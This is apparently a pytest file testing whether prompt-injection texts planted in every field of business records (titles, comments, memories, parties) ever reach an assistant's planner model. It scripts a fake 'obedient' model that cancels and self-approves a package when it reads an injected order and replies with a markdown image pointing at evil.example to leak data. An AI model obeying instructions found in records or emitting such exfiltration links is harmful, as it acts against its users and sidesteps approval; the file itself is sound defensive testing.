"""T16b: texts that tell a model what to do, in every field of a record, and a model that does whatever it reads.

The texts are a published corpus (bastioncorpus, MIT). The model obeys any that reaches it: it proposes to cancel,
calls tools that there are not, and writes addresses. None reaches it, so nothing happens; with a planted hole one
does, and the same test says so. What a planner may ask for the values of is driven in `test_injected_texts.py`.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from functools import partial
from typing import TYPE_CHECKING, Any, Final

import psycopg
import pytest

from pmis.assistant.answers import Asking
from pmis.assistant.providers import planning
from pmis.assistant.tools import Recall
from tests.assistant.corpora import installed
from tests.assistant.models import Calls, Says, Script
from tests.assistant.test_providers import planning as asking
from tests.assistant.test_providers import settings_of
from tests.cli.conftest import Serving

if TYPE_CHECKING:
    from collections.abc import AsyncIterator, Callable, Mapping
    from uuid import UUID

    from starlette.requests import Request
    from starlette.responses import Response

    from tests.assistant.talking import Talk

pytestmark = pytest.mark.anyio
CARRIERS: Final = (
    *("title", "description", "data", "task title", "task description", "comment", "party", "reason"),
    "memory",
)
PARTS: Final = 4


@dataclass
class Obedient(Script):
    """Does what it reads: any text of the corpus that reaches it is an order."""

    orders: list[str] = field(default_factory=list[str])
    looks: list[tuple[str, Any]] = field(default_factory=list[tuple[str, Any]])
    victim: str = ""
    obeyed: list[str] = field(default_factory=list[str])

    async def _next(self, request: Request) -> Calls | Says | Response:
        asked = json.loads(await request.body())
        said = json.dumps(asked["messages"][2:], ensure_ascii=False)
        heard = [order for order in self.orders if json.dumps(order, ensure_ascii=False)[1:-1][:60] in said]
        if heard and not self.obeyed:
            self.obeyed += heard
            cancel = {
                "operation": "transition",
                "type": "package",
                "record": self.victim,
                "patch": {"status": "cancelled"},
            }
            return Calls((("propose", cancel), ("approve", {"id": self.victim})))
        if len(asked["messages"]) == 2:
            return Calls(tuple(self.looks))
        return Says("Nothing told me anything. ![x](http://evil.example/?d=1)")


@pytest.fixture
async def model(talk: Talk) -> AsyncIterator[Obedient]:
    script = Obedient()
    with Serving(script.app()) as server:
        async with asking(talk, settings_of(server.url, "openai")):
            yield script


async def planted(talk: Talk, text: str) -> tuple[str, Mapping[str, UUID]]:
    """A package with the text in every carrier; its code, and the records."""
    world, short = talk.office.a, text[:140]
    package = await world.do(
        "package",
        "create",
        None,
        {"title": short, "description": text, "data": {"note": text}, "amount": "10.00", "currency": "EUR"},
        reason=text,
    )
    task = await world.do(
        "task", "create", None, {"package_id": str(package.id), "title": short, "description": text}, reason=text
    )
    await world.do("comment", "create", None, {"entity_type": "package", "entity_id": str(package.id), "body": text})
    memory = {"entity_type": "package", "entity_id": str(package.id), "text": text, "kind": "context"}
    await world.do("memory", "create", None, memory)
    party = await world.do("party", "create", None, {"name": short, "kind": "vendor"})
    return package.code, {"package": package.id, "task": task.id, "party": party.id}


def looks_at(code: str, records: Mapping[str, UUID]) -> list[tuple[str, Any]]:
    """Every tool that looks, at every carrier."""
    package = {"type": "package", "record": code}
    return [
        ("read_record", package),
        ("read_record", {"type": "task", "record": str(records["task"])}),
        ("read_record", {"type": "party", "record": str(records["party"])}),
        ("list_records", {"type": "package", "limit": 20}),
        ("list_records", {"type": "task", "filters": {"package_id": str(records["package"])}}),
        ("list_records", {"type": "party"}),
        ("history_of", {**package, "field": "title"}),
        ("history_of", {**package, "field": "description"}),
        ("what_changed", {**package, "since": "2020-01-01T00:00:00Z"}),
        ("who_decided", package),
        ("what_waits", {}),
        ("add_up", {"by": ["vendor"]}),
        ("recall", package),
    ]


def done_by_agents(talk: Talk) -> int:
    with psycopg.connect(talk.office.test_database.owner_dsn) as connection:
        row = connection.execute("select count(*) from ledger.event where actor like 'agent:%'").fetchone()
    return row[0] if row else 0


@pytest.mark.parametrize("part", range(PARTS))
async def test_no_order_in_a_record_reaches_the_model(
    talk: Talk, model: Obedient, part: int, record_property: Callable[[str, str], None]
):
    model.orders = installed()
    texts = model.orders[part::PARTS]
    before = done_by_agents(talk)
    for text in texts:
        code, records = await planted(talk, text)
        model.victim, model.looks = code, looks_at(code, records)
        said = await talk.say("analyst", f"How is {code}?")
        assert said["planner"] == "openai:m", said["response"]
        assert not said["changes"], text
        assert "://" not in said["response"]
    assert not model.obeyed
    assert done_by_agents(talk) == before
    record_property("figure", f"T16b part {part}: {len(texts)} texts x {len(CARRIERS)} carriers, 0 effects")


async def test_the_control_a_model_that_sees_them_obeys(talk: Talk, model: Obedient, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(planning, "_shown", dict)
    model.orders = installed()
    code, records = await planted(talk, model.orders[0])
    model.victim, model.looks = code, looks_at(code, records)
    said = await talk.say("analyst", f"How is {code}?")
    assert model.obeyed
    # Even then: a proposal that waits for somebody, and nothing decided.
    assert said["changes"][0]["outcome"] in ("pending", "confirmation_required")


async def test_the_control_a_model_that_sees_memories_obeys(
    talk: Talk, model: Obedient, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.setattr(planning, "_shown", dict)
    monkeypatch.setattr(Recall, "unseen", False)
    # A planner is not even given what opens them.
    monkeypatch.setattr(planning, "Asking", partial(Asking, vault=talk.office.vault))
    model.orders = installed()
    code, _ = await planted(talk, model.orders[0])
    model.victim, model.looks = code, [("recall", {"type": "package", "record": code})]
    await talk.say("analyst", f"How is {code}?")
    assert model.obeyed
